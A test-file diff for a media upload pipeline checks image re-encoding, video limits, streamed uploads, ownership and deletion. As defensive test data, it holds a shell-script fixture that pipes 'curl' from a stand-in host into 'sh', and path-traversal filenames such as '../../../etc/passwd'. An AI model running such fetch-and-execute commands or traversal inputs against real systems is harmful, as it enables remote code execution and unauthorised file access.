@@ -1,0 +1,462 @@
+/**
+ * The media pipeline over HTTP on the real server: files judged by their bytes, images re-encoded
+ * to WebP without metadata, videos stored as sent, everything under `<user>/<folder>/` on disk,
+ * uploads streamed to temp files that never outlive their request.
+ */
+import { execFile } from 'node:child_process'
+import { once } from 'node:events'
+import { createWriteStream, existsSync } from 'node:fs'
+import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import path from 'node:path'
+import { finished } from 'node:stream/promises'
+import { promisify } from 'node:util'
+import { setFlagsFromString } from 'node:v8'
+import { runInNewContext } from 'node:vm'
+import sharp from 'sharp'
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
+import { genericMessages, mediaMessages } from '../../domain/messages'
+import type { Media } from '../../payload-types'
+import { hasGpsTag, mp4, mp4Head, noisyPng, phoneJpeg, pngWithGps, webm } from '../fixtures/media'
+import { startTestApp, type TestApp } from '../helpers/app'
+import { ApiClient, errorMessage } from '../helpers/client'
+import { createAccount, createBarber, createShop, type Account, type BarberAccount, type ShopAccount } from '../helpers/seed'
+
+type Upload = { bytes: Uint8Array | Blob; name: string; type?: string; payload?: Record<string, unknown>; query?: string }
+
+function uploadForm({ bytes, name, type = 'application/octet-stream', payload = {} }: Upload): FormData {
+  const form = new FormData()
+  form.append('_payload', JSON.stringify(payload))
+  form.append('file', bytes instanceof Blob ? bytes : new Blob([new Uint8Array(bytes)], { type }), name)
+  return form
+}
+
+function upload(as: ApiClient, file: Upload) {
+  return as.request<{ doc: Media }>('POST', `/api/media${file.query ?? ''}`, { body: uploadForm(file) })
+}
+
+/** Forces a full garbage collection, so only memory still in use is measured. */
+setFlagsFromString('--expose-gc')
+const collectGarbage = runInNewContext('gc') as () => void
+
+/**
+ * Sends a file from a separate Node process (fetch streams it from disk there), so this process's
+ * memory is the server's alone.
+ */
+async function uploadFromAnotherProcess(as: ApiClient, file: string, payload: Record<string, unknown>): Promise<{ status: number; body: { doc: Media } }> {
+  const script = `
+    import { openAsBlob } from 'node:fs'
+    const form = new FormData()
+    form.append('_payload', process.env.UPLOAD_PAYLOAD)
+    form.append('file', await openAsBlob(process.env.UPLOAD_FILE), 'video.mp4')
+    const headers = { accept: 'application/json', origin: new URL(process.env.UPLOAD_URL).origin, cookie: process.env.UPLOAD_COOKIE }
+    const response = await fetch(process.env.UPLOAD_URL, { method: 'POST', body: form, headers })
+    process.stdout.write(JSON.stringify({ status: response.status, body: await response.json() }))`
+  const env = {
+    ...process.env,
+    UPLOAD_URL: `${as.baseUrl}/api/media`,
+    UPLOAD_COOKIE: `payload-token=${as.cookie('payload-token')}`,
+    UPLOAD_FILE: file,
+    UPLOAD_PAYLOAD: JSON.stringify(payload),
+  }
+  const { stdout } = await promisify(execFile)(process.execPath, ['--input-type=module', '-e', script], { env })
+  return JSON.parse(stdout)
+}
+
+const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(512)])
+const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://exemplo.invalid/x | sh\n')
+const STORED_NAME = /^\d{13}\.(webp|mp4|mov|webm)$/
+
+async function filesUnder(dir: string): Promise<string[]> {
+  if (!existsSync(dir)) return []
+  return (await readdir(dir, { recursive: true, withFileTypes: true }))
+    .filter((entry) => entry.isFile())
+    .map((entry) => path.join(entry.parentPath, entry.name))
+}
+
+describe('with the default limits', () => {
+  let app: TestApp
+  let barber: BarberAccount, otherBarber: BarberAccount, shop: ShopAccount, admin: Account
+  const client = {} as Record<'anonymous' | 'barber' | 'otherBarber' | 'shop' | 'admin', ApiClient>
+
+  const mediaDir = () => path.join(app.dataDir, 'media')
+  const tempFiles = () => filesUnder(path.join(app.dataDir, 'tmp', 'uploads'))
+  const stored = (doc: Media, filename = doc.filename!) => path.join(mediaDir(), doc.prefix!, filename)
+  const sizeFiles = (doc: Media) =>
+    Object.values(doc.sizes ?? {})
+      .map((size) => size?.filename)
+      .filter((name): name is string => Boolean(name))
+
+  beforeAll(async () => {
+    app = await startTestApp()
+    ;[barber, otherBarber, shop, admin] = await Promise.all([
+      createBarber(app.payload),
+      createBarber(app.payload),
+      createShop(app.payload),
+      createAccount(app.payload, 'admin'),
+    ])
+    client.anonymous = new ApiClient(app.url)
+    await Promise.all(
+      (
+        [
+          ['barber', barber],
+          ['otherBarber', otherBarber],
+          ['shop', shop],
+          ['admin', admin],
+        ] as const
+      ).map(([role, account]) => (client[role] = new ApiClient(app.url)).login(account.email, account.password)),
+    )
+  }, 180_000)
+
+  afterAll(() => app?.close())
+
+  describe('images', () => {
+    it('re-encodes a phone photo to upright WebP without EXIF or GPS, with its sizes beside it', async () => {
+      const sent = await phoneJpeg()
+      const original = await sharp(sent).metadata()
+      expect([original.format, original.orientation, hasGpsTag(original.exif)]).toEqual(['jpeg', 6, true])
+
+      const response = await upload(client.barber, { bytes: sent, name: 'IMG_0001.JPG', type: 'image/jpeg', payload: { folder: 'photos' } })
+      expect(response.status, response.text).toBe(201)
+      const doc = response.body.doc
+      expect(doc).toMatchObject({ user: barber.user.id, folder: 'photos', prefix: `${barber.user.id}/photos`, mimeType: 'image/webp', width: 200, height: 400 })
+      expect(doc.filename).toMatch(STORED_NAME)
+      expect(doc.sizes?.thumbnail).toMatchObject({ width: 160, height: 160, mimeType: 'image/webp' })
+      expect(doc.sizes?.card).toMatchObject({ width: 200, height: 400, mimeType: 'image/webp' })
+      expect(doc.sizes?.full).toMatchObject({ width: 200, height: 400, mimeType: 'image/webp' })
+
+      for (const filename of [doc.filename!, ...sizeFiles(doc)]) {
+        const file = stored(doc, filename)
+        expect(path.relative(mediaDir(), file)).toBe(`${barber.user.id}/photos/${filename}`)
+        const metadata = await sharp(file).metadata()
+        expect(metadata.format, filename).toBe('webp')
+        expect(metadata.exif, filename).toBeUndefined()
+        expect(metadata.xmp, filename).toBeUndefined()
+        expect(metadata.orientation, filename).toBeUndefined()
+      }
+      const upright = await sharp(stored(doc)).metadata()
+      expect([upright.width, upright.height]).toEqual([200, 400])
+      expect(await tempFiles()).toEqual([])
+    })
+
+    it('serves the stored files from their public URLs with a year of cache', async () => {
+      const doc = (await upload(client.shop, { bytes: await pngWithGps(), name: 'logo.png', type: 'image/png', payload: { folder: 'logos' } })).body.doc
+      expect(doc.url).toBe(`${app.url}/media/${shop.user.id}/logos/${doc.filename}`)
+      expect(doc.sizes?.card?.url).toBe(`${app.url}/media/${shop.user.id}/logos/${doc.sizes?.card?.filename}`)
+      const served = await fetch(doc.url!)
+      expect(served.status).toBe(200)
+      expect(served.headers.get('content-type')).toBe('image/webp')
+      expect(served.headers.get('cache-control')).toMatch(/max-age=31536000.*immutable/)
+      expect(Buffer.from(await served.arrayBuffer()).equals(await readFile(stored(doc)))).toBe(true)
+      const metadata = await sharp(stored(doc)).metadata()
+      expect([metadata.format, metadata.exif]).toEqual(['webp', undefined])
+
+      // Payload's own file route sends readers to the same place.
+      const viaPayload = await fetch(`${app.url}/api/media/file/${doc.filename}?prefix=${encodeURIComponent(doc.prefix!)}`, { redirect: 'manual' })
+      expect(viaPayload.status).toBe(302)
+      expect(viaPayload.headers.get('location')).toBe(doc.url)
+      expect((await fetch(`${app.url}/media/${shop.user.id}/logos/0000000000000.webp`)).status).toBe(404)
+    })
+
+    it('bounds the stored original and derives each size from it', async () => {
+      const wide = await sharp({ create: { width: 3200, height: 800, channels: 3, background: '#1d4ed8' } })
+        .jpeg()
+        .toBuffer()
+      const doc = (await upload(client.shop, { bytes: wide, name: 'fachada.jpg', type: 'image/jpeg', payload: { folder: 'shop-photos' } })).body.doc
+      expect([doc.width, doc.height]).toEqual([2560, 640])
+      expect(doc.sizes?.full).toMatchObject({ width: 1600, height: 400 })
+      expect(doc.sizes?.card).toMatchObject({ width: 480, height: 120 })
+      expect(doc.sizes?.thumbnail).toMatchObject({ width: 160, height: 160 })
+      expect(doc.prefix).toBe(`${shop.user.id}/shop-photos`)
+    })
+
+    it('ignores crop edits, which would skip the WebP re-encoding', async () => {
+      const query = '?uploadEdits[crop][x]=0&uploadEdits[crop][y]=0&uploadEdits[widthInPixels]=50&uploadEdits[heightInPixels]=50'
+      const response = await upload(client.barber, { bytes: await phoneJpeg(), name: 'foto.jpg', type: 'image/jpeg', payload: { folder: 'photos' }, query })
+      expect(response.status, response.text).toBe(201)
+      const metadata = await sharp(stored(response.body.doc)).metadata()
+      expect([metadata.format, metadata.width, metadata.height, metadata.exif]).toEqual(['webp', 200, 400, undefined])
+    })
+  })
+
+  describe('refusals', () => {
+    it.each([
+      ['an executable renamed foto.png', ELF, 'foto.png', 'image/png', 'photos', mediaMessages.imageType],
+      ['a shell script renamed foto.png', SHELL_SCRIPT, 'foto.png', 'image/png', 'logos', mediaMessages.imageType],
+      ['a text file named .png', Buffer.from('não sou uma imagem'), 'imagem.png', 'image/png', 'shop-photos', mediaMessages.imageType],
+      ['an executable renamed video.mp4', ELF, 'video.mp4', 'video/mp4', 'videos', mediaMessages.videoType],
+      ['an image sent to the videos folder', 'png', 'video.mp4', 'video/mp4', 'videos', mediaMessages.videoType],
+      ['a video sent to the photos folder', 'mp4', 'foto.jpg', 'image/jpeg', 'photos', mediaMessages.imageType],
+    ] as const)('refuses %s, whatever its name and declared type', async (_case, content, name, type, folder, message) => {
+      const bytes = content === 'png' ? await pngWithGps() : content === 'mp4' ? mp4({ seconds: 5 }) : content
+      const response = await upload(client.otherBarber, { bytes, name, type, payload: { folder } })
+      expect(response.status, response.text).toBe(400)
+      expect(errorMessage(response.body)).toBe(message)
+      expect(await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))).toEqual([])
+      expect(await tempFiles()).toEqual([])
+    })
+
+    it('refuses an image over its own limit with 413 and leaves no temp file', async () => {
+      const bytes = await noisyPng()
+      expect(bytes.length).toBeGreaterThan(10 * 1024 * 1024)
+      const response = await upload(client.otherBarber, { bytes, name: 'grande.png', type: 'image/png', payload: { folder: 'photos' } })
+      expect(response.status).toBe(413)
+      expect(errorMessage(response.body)).toBe('A imagem passa do limite de 10 MB.')
+      expect(await tempFiles()).toEqual([])
+    })
+
+    it('asks for a folder and a file', async () => {
+      for (const payload of [{}, { folder: 'documentos' }, { folder: '../photos' }]) {
+        const response = await upload(client.otherBarber, { bytes: await pngWithGps(), name: 'foto.png', type: 'image/png', payload })
+        expect(response.status).toBe(400)
+        expect(errorMessage(response.body)).toBe(mediaMessages.folderInvalid)
+      }
+      const withoutFile = await client.otherBarber.post('/api/media', { folder: 'photos' })
+      expect(withoutFile.status).toBe(400)
+      expect(errorMessage(withoutFile.body)).toBe('Nenhum arquivo foi carregado.')
+      expect(await tempFiles()).toEqual([])
+    })
+
+    it('refuses visitors with 403 and keeps nothing', async () => {
+      const response = await upload(client.anonymous, { bytes: await pngWithGps(), name: 'foto.png', type: 'image/png', payload: { folder: 'photos' } })
+      expect(response.status).toBe(403)
+      expect(await tempFiles()).toEqual([])
+    })
+  })
+
+  describe('videos', () => {
+    it.each([
+      ['an MP4', mp4({ seconds: 12 }), 'video/mp4', 'mp4', 12],
+      ['a MOV with its header at the end', mp4({ seconds: 95.5, brand: 'qt  ', moovAtEnd: true }), 'video/quicktime', 'mov', 95.5],
+      ['a WebM (length not measured)', webm(), 'video/webm', 'webm', null],
+    ] as const)('stores %s as sent, with its length', async (_case, bytes, mimeType, extension, duration) => {
+      const response = await upload(client.barber, { bytes, name: 'apresentacao.bin', type: 'application/octet-stream', payload: { folder: 'videos' } })
+      expect(response.status, response.text).toBe(201)
+      const doc = response.body.doc
+      expect(doc).toMatchObject({ mimeType, duration, prefix: `${barber.user.id}/videos`, filesize: bytes.length })
+      expect(doc.filename).toMatch(new RegExp(`^\\d{13}\\.${extension}$`))
+      expect((await readFile(stored(doc))).equals(bytes)).toBe(true)
+      expect(await tempFiles()).toEqual([])
+    })
+
+    it('refuses an MP4 longer than 3 minutes', async () => {
+      const response = await upload(client.barber, {
+        bytes: mp4({ seconds: 181, moovAtEnd: true }),
+        name: 'longo.mp4',
+        type: 'video/mp4',
+        payload: { folder: 'videos' },
+      })
+      expect(response.status).toBe(400)
+      expect(errorMessage(response.body)).toBe('O vídeo passa do limite de 3 minutos.')
+      expect(await tempFiles()).toEqual([])
+    })
+
+    it('streams a 99 MB video to a temp file and copies it, never holding it in memory', async () => {
+      const work = await mkdtemp(path.join(tmpdir(), 'navalha-video-'))
+      try {
+        const source = path.join(work, 'grande.mp4')
+        const mdatBytes = 99 * 1024 * 1024
+        const out = createWriteStream(source)
+        out.write(mp4Head({ seconds: 60, mdatBytes }))
+        const chunk = Buffer.alloc(1024 * 1024, 0x2a)
+        for (let written = 0; written < mdatBytes; written += chunk.length) if (!out.write(chunk)) await once(out, 'drain')
+        out.end()
+        await finished(out)
+        const size = (await stat(source)).size
+
+        // Memory still reachable after a full collection, sampled while the server receives the file.
+        const liveBuffers = () => (collectGarbage(), process.memoryUsage().arrayBuffers)
+        const before = liveBuffers()
+        let peakLive = 0
+        let largestTempFile = 0
+        const memorySampler = setInterval(() => (peakLive = Math.max(peakLive, liveBuffers() - before)), 200)
+        const tempSampler = setInterval(async () => {
+          for (const file of await tempFiles())
+            largestTempFile = Math.max(
+              largestTempFile,
+              await stat(file).then(
+                (s) => s.size,
+                () => 0,
+              ),
+            )
+        }, 50)
+        const response = await uploadFromAnotherProcess(client.barber, source, { folder: 'videos' }).finally(() => {
+          clearInterval(memorySampler)
+          clearInterval(tempSampler)
+        })
+
+        expect(response.status, JSON.stringify(response.body)).toBe(201)
+        expect(response.body.doc).toMatchObject({ filesize: size, duration: 60, mimeType: 'video/mp4' })
+        expect((await stat(stored(response.body.doc))).size).toBe(size)
+        // The bytes went to disk while they arrived...
+        expect(largestTempFile).toBeGreaterThan(size / 2)
+        // ...and were never gathered in memory: holding the file keeps all of it alive (measured: 99 MB,
+        // then 190 MB while Payload joins the chunks); streaming keeps a few chunks at a time.
+        expect(peakLive).toBeLessThan(size / 2)
+        expect(await tempFiles()).toEqual([])
+      } finally {
+        await rm(work, { recursive: true, force: true })
+      }
+    })
+  })
+
+  describe('ownership and placement', () => {
+    it('files an upload under the uploader, whatever the body says', async () => {
+      const payload = {
+        folder: 'photos',
+        user: otherBarber.user.id,
+        prefix: `${otherBarber.user.id}/photos`,
+        filename: 'perfil.webp',
+        url: 'http://exemplo.invalid/x.webp',
+        _objectKey: 'x',
+        sizes: {},
+        duration: 1,
+      }
+      const response = await upload(client.barber, { bytes: await pngWithGps(), name: '../../../perfil.png', type: 'image/png', payload })
+      expect(response.status, response.text).toBe(201)
+      const doc = response.body.doc
+      expect(doc).toMatchObject({
+        user: barber.user.id,
+        prefix: `${barber.user.id}/photos`,
+        url: `${app.url}/media/${barber.user.id}/photos/${doc.filename}`,
+        duration: null,
+      })
+      expect(doc.filename).toMatch(STORED_NAME)
+      expect(existsSync(stored(doc))).toBe(true)
+      expect(await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))).toEqual([])
+
+      const traversal = await upload(client.barber, {
+        bytes: await pngWithGps(),
+        name: 'foto.png',
+        type: 'image/png',
+        payload: { folder: 'photos', filename: '../../../etc/passwd' },
+      })
+      expect(traversal.status).toBe(400)
+    })
+
+    it('lets an admin upload for someone else, into that person’s folder', async () => {
+      const response = await upload(client.admin, {
+        bytes: await pngWithGps(),
+        name: 'logo.png',
+        type: 'image/png',
+        payload: { folder: 'logos', user: shop.user.id },
+      })
+      expect(response.status, response.text).toBe(201)
+      expect(response.body.doc).toMatchObject({ user: shop.user.id, prefix: `${shop.user.id}/logos` })
+      expect(existsSync(stored(response.body.doc))).toBe(true)
+    })
+
+    it('applies the same pipeline to trusted server code (Local API)', async () => {
+      const bytes = await phoneJpeg()
+      const doc = await app.payload.create({
+        collection: 'media',
+        data: { folder: 'photos', user: otherBarber.user.id, prefix: 'qualquer/lugar' } as never,
+        file: { data: bytes, mimetype: 'image/jpeg', name: 'semente.jpg', size: bytes.length },
+        depth: 0,
+      })
+      expect(doc).toMatchObject({ user: otherBarber.user.id, prefix: `${otherBarber.user.id}/photos`, mimeType: 'image/webp', width: 200, height: 400 })
+      const metadata = await sharp(stored(doc)).metadata()
+      expect([metadata.format, metadata.exif]).toEqual(['webp', undefined])
+      await app.payload.delete({ collection: 'media', id: doc.id })
+      expect(existsSync(stored(doc))).toBe(false)
+    })
+
+    it('never moves or replaces a stored file on update', async () => {
+      const doc = (await upload(client.barber, { bytes: await pngWithGps(), name: 'foto.png', type: 'image/png', payload: { folder: 'photos' } })).body.doc
+      const changes = {
+        alt: 'Eu no salão',
+        folder: 'logos',
+        user: otherBarber.user.id,
+        prefix: `${otherBarber.user.id}/logos`,
+        filename: 'outro.webp',
+        url: 'http://exemplo.invalid',
+        duration: 99,
+      }
+      const updated = await client.barber.patch(`/api/media/${doc.id}`, changes)
+      expect(updated.status, updated.text).toBe(200)
+      expect(updated.body.doc).toMatchObject({
+        alt: 'Eu no salão',
+        folder: 'photos',
+        user: barber.user.id,
+        prefix: doc.prefix,
+        filename: doc.filename,
+        url: doc.url,
+        duration: null,
+      })
+      expect(existsSync(stored(doc))).toBe(true)
+
+      const replace = await client.barber.request('PATCH', `/api/media/${doc.id}`, {
+        body: uploadForm({ bytes: await pngWithGps(), name: 'nova.png', type: 'image/png', payload: {} }),
+      })
+      expect(replace.status).toBe(400)
+      expect(errorMessage(replace.body)).toBe(mediaMessages.replaceNotAllowed)
+      expect(existsSync(stored(doc))).toBe(true)
+      expect(await tempFiles()).toEqual([])
+    })
+
+    it('deletes the file and its sizes from disk with the document', async () => {
+      const doc = (await upload(client.barber, { bytes: await phoneJpeg(), name: 'foto.jpg', type: 'image/jpeg', payload: { folder: 'photos' } })).body.doc
+      const files = [doc.filename!, ...sizeFiles(doc)].map((filename) => stored(doc, filename))
+      expect(files).toHaveLength(4)
+      expect(files.every((file) => existsSync(file))).toBe(true)
+
+      expect((await client.otherBarber.delete(`/api/media/${doc.id}`)).status).toBe(403)
+      expect(files.every((file) => existsSync(file))).toBe(true)
+      expect((await client.barber.delete(`/api/media/${doc.id}`)).status).toBe(200)
+      expect(files.filter((file) => existsSync(file))).toEqual([])
+
+      const video = (await upload(client.barber, { bytes: mp4({ seconds: 3 }), name: 'v.mp4', payload: { folder: 'videos' } })).body.doc
+      expect((await client.admin.delete(`/api/media/${video.id}`)).status).toBe(200)
+      expect(existsSync(stored(video))).toBe(false)
+    })
+  })
+})
+
+describe('with MAX_VIDEO_MB=1 and MAX_IMAGE_MB=1', () => {
+  let app: TestApp
+  let client: ApiClient
+
+  beforeAll(async () => {
+    // A second server in this file: fresh modules so the settings are read again.
+    vi.resetModules()
+    app = await startTestApp({ MAX_VIDEO_MB: '1', MAX_IMAGE_MB: '1' })
+    const barber = await createBarber(app.payload)
+    client = new ApiClient(app.url)
+    await client.login(barber.email, barber.password)
+  }, 180_000)
+
+  afterAll(() => app?.close())
+
+  it('cuts a file at the limit while it streams, then refuses it with 413 and no temp file left', async () => {
+    const response = await upload(client, {
+      bytes: mp4({ seconds: 10, mdatBytes: 1536 * 1024 }),
+      name: 'grande.mp4',
+      type: 'video/mp4',
+      payload: { folder: 'videos' },
+    })
+    expect(response.status).toBe(413)
+    expect(errorMessage(response.body)).toBe('O vídeo passa do limite de 1 MB.')
+    expect(await filesUnder(path.join(app.dataDir, 'tmp', 'uploads'))).toEqual([])
+    expect(await filesUnder(path.join(app.dataDir, 'media'))).toEqual([])
+  })
+
+  it('refuses a chunked body past the request limit mid-stream and keeps no temp file', async () => {
+    const encoded = new Response(
+      uploadForm({ bytes: mp4({ seconds: 10, mdatBytes: 3 * 1024 * 1024 }), name: 'enorme.mp4', type: 'video/mp4', payload: { folder: 'videos' } }),
+    )
+    const headers = {
+      'content-type': encoded.headers.get('content-type')!,
+      accept: 'application/json',
+      origin: app.url,
+      cookie: `payload-token=${client.cookie('payload-token')}`,
+    }
+    // The server answers before the client has sent everything, so the client may see the reset first.
+    const outcome = await fetch(`${app.url}/api/media`, { method: 'POST', body: encoded.body, duplex: 'half', headers } as RequestInit).then(
+      async (response) => ({ status: response.status, message: errorMessage(await response.json()) }),
+      () => 'connection reset',
+    )
+    if (outcome !== 'connection reset') expect(outcome).toEqual({ status: 413, message: genericMessages.bodyTooLarge })
+    await vi.waitFor(async () => expect(await filesUnder(path.join(app.dataDir, 'tmp', 'uploads'))).toEqual([]))
+    expect(await filesUnder(path.join(app.dataDir, 'media'))).toEqual([])
+  })
+})
